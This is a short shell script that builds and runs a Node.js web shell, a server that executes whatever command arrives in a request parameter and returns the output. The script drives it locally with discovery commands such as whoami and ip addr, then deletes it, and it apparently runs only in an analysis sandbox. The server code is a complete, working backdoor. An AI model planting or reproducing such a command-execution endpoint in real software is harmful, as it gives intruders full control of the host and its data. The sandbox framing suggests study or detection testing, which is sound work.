#!/bin/sh
# SPDX-License-Identifier: MIT
# A web shell in a Node.js application: a request's parameter is a command
# the server runs and answers with.  Started on the loopback interface,
# then driven by its operator (here: the same script) with a few
# discovery commands.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
d=/tmp/.node-app; mkdir -p $d
cat > $d/server.js <<'JS'
const http = require("http");
const { execFile } = require("child_process");
const srv = http.createServer((req, res) => {
	const cmd = (new URL(req.url, "http://localhost").searchParams.get("c") || "").split(" ");
	execFile(cmd[0], cmd.slice(1), { timeout: 2000 }, (err, out) => res.end(out || ""));
});
srv.listen(0, "127.0.0.1", async () => {
	const port = srv.address().port;
	for (const c of ["whoami", "uname -a", "hostname", "ip addr"]) {
		await new Promise((done) => {
			http.get({ host: "127.0.0.1", port, path: "/?c=" + encodeURIComponent(c) }, (r) => {
				r.resume();
				r.on("end", done);
			}).on("error", done);
		});
	}
	srv.close();
});
JS
timeout 10 node $d/server.js >/dev/null 2>&1
rm -rf $d
exit 0
